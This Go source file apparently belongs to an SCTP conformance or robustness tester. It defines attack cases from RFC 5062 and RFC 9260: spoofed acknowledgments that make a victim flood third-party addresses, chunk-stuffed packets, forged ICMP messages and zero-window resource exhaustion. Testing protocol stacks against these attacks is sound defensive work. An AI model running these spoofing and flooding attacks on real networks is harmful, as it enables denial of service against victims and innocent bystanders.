//go:build linux

package main

import (
	"fmt"
	"net/netip"

	"github.com/rddp-go/rddp/sctp/wire"
)

// Whoever has an association may try to have the victim send much to others.
func bombAttacks(f *family) []attack {
	unconfirmed := []string{"INIT ACK", "COOKIE ACK", "HEARTBEAT", "HEARTBEAT ACK", "SACK", "DATA", "HEARTBEAT" + third}
	return []attack{
		{name: "bombing: much data asked for, acknowledged in the names of third parties", rfc: "5062 5",
			may: unconfirmed, echo: 1,
			start: func(x *scene) (func(int) error, error) {
				p, err := x.open(x.to(portSCTP), x.listed(7))
				if err != nil {
					return nil, err
				}
				p.silent = true // so that the victim looks for another way
				if err := p.say(askSource); err != nil {
					return nil, err
				}
				return func(i int) error {
					p.drain()
					from := netip.AddrPortFrom(host(x.innocents, i%7), p.src.Port())
					if odd(i) { // a nonce is all that confirms an address
						return x.w.sctp(from, x.to(portSCTP), p.tag,
							wire.AppendHeartbeatAck(nil, nonce(x, from.Addr())))
					}
					return x.w.sctp(from, x.to(portSCTP), p.tag,
						wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum, ARwnd: 1 << 20}))
				}, nil
			}},
		{name: "bombing: HEARTBEATs to 7 unconfirmed addresses of each association", rfc: "5062 6, 9260 5.4",
			most: 3000,
			must: []string{"HEARTBEAT" + third}, may: unconfirmed, echo: 1,
			start: func(x *scene) (func(int) error, error) {
				var list []*peer
				return func(int) error {
					p, err := x.open(x.to(portSCTP), x.listed(7))
					if list = append(list, p); len(list) > 8 { // the last stay: a HEARTBEAT may come an RTO later
						list[0].abort()
						x.drop(list[0])
						list = list[1:]
					}
					return err
				}, nil
			}},
		{name: "one packet with 90 unknown chunks to report", rfc: "5062 8, 9260 12.4", must: []string{"ERROR 6"},
			may: []string{"INIT ACK", "COOKIE ACK", "HEARTBEAT"},
			start: standing("", func(_ *scene, p *peer, _ int) error {
				var b []byte
				for range 90 {
					b = wire.AppendChunk(b, 0xFE, 0, number(0)[:4])
				}
				return p.send(b)
			})},
		{name: "one packet with 90 HEARTBEATs", rfc: "5062 8", must: []string{"HEARTBEAT ACK"}, may: unconfirmed,
			start: standing("", func(_ *scene, p *peer, _ int) error {
				var b []byte
				for range 90 {
					b = wire.AppendHeartbeat(b, make([]byte, 4))
				}
				return p.send(b)
			})},
		{name: "one packet with 70 DATA chunks on streams that are not there", rfc: "5062 8, 9260 6.5", must: []string{"ERROR 1"},
			may: unconfirmed,
			start: standing("", func(_ *scene, p *peer, _ int) error {
				var b []byte
				for range 70 {
					b = p.data(b, whole, 1024, 0, 0, make([]byte, 4))
				}
				return p.send(b)
			})},
		{name: fmt.Sprintf("a path MTU of %d reported for one's own association, then 90 HEARTBEATs", f.leastMTU), rfc: "5062 10", must: []string{"HEARTBEAT ACK"},
			may: unconfirmed,
			start: standing("", func(x *scene, p *peer, i int) error {
				if i%100 == 0 {
					if err := x.w.icmp(host(x.attackers, 3), x.to(portSCTP), p.src, x.tooBig, x.leastMTU,
						p.own); err != nil {
						return err
					}
				}
				var b []byte
				for range 90 {
					b = wire.AppendHeartbeat(b, make([]byte, 4))
				}
				return p.send(b)
			})},
		{name: f.protocol.name + " for one's own association that talks", rfc: "9260 10",
			must: []string{"HEARTBEAT ACK"}, may: unconfirmed,
			start: standing("", func(x *scene, p *peer, _ int) error {
				if err := x.w.icmp(host(x.attackers, 3), x.to(portSCTP), p.src, x.protocol, 0, p.own); err != nil {
					return err
				}
				if err := p.send(wire.AppendHeartbeat(nil, make([]byte, 4))); err != nil {
					return err
				}
				_, err := p.wait(wire.ChunkHeartbeatAck)
				return err
			})},
		{name: "a window of 0 for a victim that sends without end", rfc: "9260 6.1", may: unconfirmed,
			start: standing(askSource, func(_ *scene, p *peer, _ int) error {
				p.rwnd = 0
				return p.send(wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum}))
			})},
		{name: "a window of 1 octet for a victim that sends without end", rfc: "9260 6.1", may: unconfirmed,
			start: standing(askSource, func(_ *scene, p *peer, _ int) error {
				p.rwnd = 1
				return p.send(wire.AppendSack(nil, wire.SackFields{CumTSN: p.cum, ARwnd: 1}))
			})},
		{name: "associations that have data sent and take none of it, 50 a second", rfc: "5042 6.4.2", rate: 200,
			mass: 128 << 20,
			must: []string{"DATA"}, may: unconfirmed,
			start: blind(func(x *scene, _ int) error {
				p := x.peer(x.to(portSCTP), nil)
				p.rwnd = 1500
				if err := p.connect(); err != nil {
					return err
				}
				p.silent = true
				return p.say(askSource)
			})},
	}
}
